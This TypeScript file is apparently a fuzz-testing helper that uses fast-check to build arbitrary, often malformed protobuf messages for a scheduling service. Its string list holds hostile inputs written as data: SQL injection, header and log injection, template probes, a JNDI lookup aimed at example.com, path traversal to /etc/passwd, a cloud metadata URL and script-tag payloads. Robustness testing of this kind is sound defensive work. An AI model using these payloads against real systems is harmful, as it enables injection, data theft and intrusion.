import type { DescField, DescMessage, DescOneof, MessageInitShape } from "@bufbuild/protobuf";
import { ScalarType } from "@bufbuild/protobuf";
import fc from "fast-check";

/** Texts that have broken programs before: SQL, log lines, headers, templates, paths, and what no database stores. */
const NASTY_TEXTS = [
  "",
  " ",
  "'; DROP TABLE schedules; --",
  '" OR 1=1 --',
  "\\'; SELECT pg_sleep(10); --",
  "%",
  "_%\\",
  "\0",
  "a\0b",
  "line\r\nx-injected: yes",
  '\n{"level":"fatal","msg":"forged"}',
  "\u001b[2J\u001b[31m",
  "{{ secrets.API_KEY }}",
  "{{ constructor.constructor }}",
  "{{{{",
  "{{",
  "$" + "{jndi:ldap://example.com/a}",
  "__proto__",
  "constructor",
  "../../etc/passwd",
  "http://169.254.169.254/latest/meta-data",
  "javascript:alert(1)",
  "<script>alert(1)</script>",
  "\ufeff\u202e\u0000",
  "𝕳𝖊𝖑𝖑𝖔 🎉",
  "NaN",
  "-1",
  "9999999999999999999999",
  "00000000-0000-0000-0000-000000000000",
  "* * * * *",
  "0 0 31 2 *",
  "Europe/Berlin",
  "x".repeat(300),
  "x".repeat(70_000),
];

const NASTY_INTEGERS = [0, 1, -1, 2, 100, 501, 65_536, 2_147_483_647, -2_147_483_648];
const NASTY_SECONDS = [
  0n,
  1n,
  -1n,
  60n,
  253_402_300_799n,
  253_402_300_800n,
  -62_135_596_801n,
  2n ** 63n - 1n,
];

/** How deep messages are nested at most: some name themselves. */
const MAX_DEPTH = 5;

/** Any message of a kind, valid or not; what is generated is often nasty. */
export function arbitraryMessage<D extends DescMessage>(desc: D): fc.Arbitrary<MessageInitShape<D>> {
  // the shape follows the descriptor, which the type of an arbitrary cannot say
  return messageOf(desc, 0) as fc.Arbitrary<MessageInitShape<D>>;
}

function messageOf(desc: DescMessage, depth: number): fc.Arbitrary<object> {
  if (desc.typeName === "google.protobuf.Struct") {
    return fc.dictionary(text(), fc.jsonValue({ maxDepth: 2 })) as fc.Arbitrary<object>;
  }
  if (desc.typeName === "google.protobuf.Timestamp" || desc.typeName === "google.protobuf.Duration") {
    return fc.record({
      seconds: fc.oneof(
        fc.constantFrom(...NASTY_SECONDS),
        fc.bigInt({ min: 1_700_000_000n, max: 2_000_000_000n }),
      ),
      nanos: fc.oneof(
        { weight: 4, arbitrary: fc.constant(0) },
        fc.constantFrom(-1, 1, 999_999_999, 1_000_000_000),
      ),
    });
  }
  const members = desc.members.map((member) => [member.localName, memberOf(member, depth)] as const);
  return fc.record(Object.fromEntries(members), { requiredKeys: [] });
}

function memberOf(member: DescField | DescOneof, depth: number): fc.Arbitrary<unknown> {
  if (member.kind === "oneof") {
    const cases = member.fields.map((field) =>
      fieldOf(field, depth).map((value) => ({ case: field.localName, value })),
    );
    return fc.oneof(fc.constant({ case: undefined }), ...cases);
  }
  return fieldOf(member, depth);
}

function fieldOf(field: DescField, depth: number): fc.Arbitrary<unknown> {
  switch (field.fieldKind) {
    case "scalar":
      return scalar(field.scalar);
    case "enum":
      return fc.oneof(
        { weight: 9, arbitrary: fc.constantFrom(...field.enum.values.map(({ number }) => number)) },
        { weight: 1, arbitrary: fc.constantFrom(-1, 99, 2_147_483_647) },
      );
    case "message":
      return depth >= MAX_DEPTH ? fc.constant(undefined) : messageOf(field.message, depth + 1);
    case "list":
      return fc.array(itemOf(field, depth), { maxLength: 4 });
    case "map":
      return fc.dictionary(text(), text(), { maxKeys: 4 });
  }
}

function itemOf(field: Extract<DescField, { fieldKind: "list" }>, depth: number): fc.Arbitrary<unknown> {
  if (field.listKind === "scalar") return scalar(field.scalar);
  if (field.listKind === "enum") return fc.constantFrom(...field.enum.values.map(({ number }) => number), 99);
  return depth >= MAX_DEPTH ? fc.constant({}) : messageOf(field.message, depth + 1);
}

function scalar(type: ScalarType): fc.Arbitrary<unknown> {
  switch (type) {
    case ScalarType.STRING:
      return text();
    case ScalarType.BOOL:
      return fc.boolean();
    case ScalarType.BYTES:
      return fc.uint8Array({ maxLength: 100 });
    case ScalarType.INT64:
    case ScalarType.SINT64:
    case ScalarType.SFIXED64:
      return fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n });
    case ScalarType.UINT64:
    case ScalarType.FIXED64:
      return fc.bigInt({ min: 0n, max: 2n ** 64n - 1n });
    case ScalarType.UINT32:
    case ScalarType.FIXED32:
      return fc.nat();
    case ScalarType.DOUBLE:
    case ScalarType.FLOAT:
      return fc.constantFrom(0, 1, -1, 0.5, Number.NaN, Number.POSITIVE_INFINITY);
    default:
      return fc.oneof(fc.constantFrom(...NASTY_INTEGERS), fc.integer());
  }
}

function text(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...NASTY_TEXTS) },
    {
      weight: 2,
      arbitrary: fc.string({ unit: "binary", maxLength: 40 }).filter((value) => value.isWellFormed()),
    },
    { weight: 1, arbitrary: fc.stringMatching(/^[a-z0-9-]{1,20}$/) },
    { weight: 1, arbitrary: fc.uuid() },
  );
}
